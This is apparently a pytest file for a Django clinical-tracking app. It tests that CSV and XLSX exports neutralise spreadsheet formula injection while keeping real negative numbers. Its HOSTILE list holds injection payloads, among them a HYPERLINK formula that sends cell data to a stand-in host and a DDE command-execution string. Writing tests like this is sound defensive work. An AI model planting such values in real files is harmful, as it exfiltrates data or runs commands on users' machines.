"""Exports are safe to open in a spreadsheet: no value is read as a formula (OWASP CSV injection).

https://owasp.org/www-community/attacks/CSV_Injection: a cell beginning with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading single quote in CSV; in a workbook it is
a text string, never a formula. Real numbers (a day before the index date, ``-5``) stay numbers.
"""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from tests.web.conftest import add_patient

from myotrack.web.events.services import save_event
from myotrack.web.spreadsheet import is_formula_like, neutralise, safe_frame

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "@A1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_leading_text_gets_a_quote(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "-12.5", "+3", "-1e3", "", "SRP", "4-", "a=b", "'=x"])
def test_numbers_and_plain_text_are_kept(text: str) -> None:
    assert not is_formula_like(text)
    assert neutralise(text) == text


def test_safe_frame_does_not_change_its_input() -> None:
    import pandas as pd

    frame = pd.DataFrame({"a": ["=1+1", "-5", ""], "b": ["x", "@y", "-2+3"]})
    copy = frame.copy()
    out = safe_frame(frame)
    pd.testing.assert_frame_equal(frame, copy)
    assert out.to_dict("list") == {"a": ["'=1+1", "-5", ""], "b": ["x", "'@y", "'-2+3"]}


@pytest.fixture
def identified(users: dict[str, Any]) -> Any:
    """The data manager, with the right to export identified data."""
    user = users["data_manager"]
    user.profile.export_identified = True
    user.profile.save()
    return user


@pytest.fixture
def hostile(identified: Any, sites: dict[str, Any]) -> Any:
    """A patient whose id, event term and note lead with formulas, seen 5 days before day 0."""
    user = identified
    patient = add_patient(user, sites["A"], "=1+1", notes="@SUM(A1:A9)")
    save_event(
        user,
        patient,
        {"kind": "other", "term": "+1+1", "date": "2023-01-05", "note": HOSTILE[3]},
    )
    return patient


def export(client: Client, users: dict[str, Any], fmt: str) -> bytes:
    client.force_login(users["data_manager"])
    response = client.post(reverse("transfer:export"), {"format": fmt, "identified": "on"})
    assert response.status_code == 200
    return response.content


def test_csv_export_neutralises_formula_cells(
    client: Client, users: dict[str, Any], hostile: Any
) -> None:
    with zipfile.ZipFile(io.BytesIO(export(client, users, "zip"))) as archive:
        text = {n: archive.read(n).decode() for n in archive.namelist()}
    import csv

    cells = {
        name: list(csv.reader(io.StringIO(body))) for name, body in text.items() if body.strip()
    }
    every = [c for rows in cells.values() for row in rows[1:] for c in row]
    assert "'=1+1" in every and "'+1+1" in every and "'@SUM(A1:A9)" in every
    assert "'" + HOSTILE[3] in every
    assert not [c for c in every if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [
        c for c in every if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
    ]
    events = cells["events.csv"]
    day = events[0].index("day")
    assert "-5" in [row[day] for row in events[1:]]  # a real negative number stays a number


def test_xlsx_export_writes_text_never_formulas(
    client: Client, users: dict[str, Any], hostile: Any
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export(client, users, "xlsx")))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert "=1+1" in values and "+1+1" in values and "@SUM(A1:A9)" in values
    assert HOSTILE[3] in values and "-5" in values


def test_xlsx_export_survives_control_characters(
    client: Client, users: dict[str, Any], sites: dict[str, Any], identified: Any
) -> None:
    add_patient(identified, sites["A"], "CTRL-1", notes="bell\x07 and escape\x1b")
    book = openpyxl.load_workbook(io.BytesIO(export(client, users, "xlsx")))
    ids = [r[0] for r in book["patients"].iter_rows(min_row=2, values_only=True)]
    assert ids == ["CTRL-1"]
